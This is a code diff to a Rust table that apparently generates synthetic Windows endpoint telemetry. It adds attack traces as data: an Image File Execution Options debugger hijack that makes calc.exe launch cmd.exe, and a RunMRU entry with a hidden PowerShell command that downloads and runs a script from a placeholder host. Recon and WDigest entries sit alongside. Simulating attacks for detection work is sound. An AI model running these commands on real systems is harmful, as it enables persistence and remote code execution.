@@ -291,6 +291,19 @@ const RECIPES: &[Recipe] = &[
         )],
         &[],
     ),
+    // Documents opened straight from SharePoint over WebDAV.
+    rc(
+        Place::Ws,
+        P::Explorer,
+        Who::User,
+        0.1,
+        &[st(
+            0,
+            Img::Word,
+            "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"\\\\contoso.sharepoint.com@SSL\\DavWWWRoot\\sites\\{dept}\\Shared Documents\\{dept} Team Charter.docx\"",
+        )],
+        &[],
+    ),
     // Explorer's Run dialog and recent items; the Teams meeting add-in registers itself.
     rc(
         Place::Ws,
@@ -763,6 +776,11 @@ const RECIPES: &[Recipe] = &[
                 1,
                 Img::Msiexec,
                 "msiexec  /i \"\\\\{fs}\\Software$\\7-Zip\\7z2408-x64.msi\" /qn",
+            ),
+            st(
+                1,
+                Img::Msiexec,
+                "msiexec  /fa C:\\Windows\\Installer\\3f1b2c.msi /qn",
             ),
             st(
                 1,
@@ -1475,8 +1493,27 @@ const RECIPES: &[Recipe] = &[
                 Img::Cmd,
                 "C:\\Windows\\system32\\cmd.exe /c hostname & whoami & ipconfig /all",
             ),
+            st(
+                1,
+                Img::Reg,
+                "reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe\" /v Debugger /t REG_SZ /d \"C:\\Windows\\System32\\cmd.exe\" /f",
+            ),
         ],
         &[
+            reg(
+                32,
+                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe",
+                "Debugger",
+                "String",
+                "C:\\Windows\\System32\\cmd.exe",
+            ),
+            reg(
+                0,
+                "{hkcu}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
+                "c",
+                "String",
+                "powershell -w hidden -nop -c \"iwr http://{rt}/payloads/clickfix.ps1 -UseBasicParsing | iex\"\\1",
+            ),
             reg(
                 10,
                 "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest",
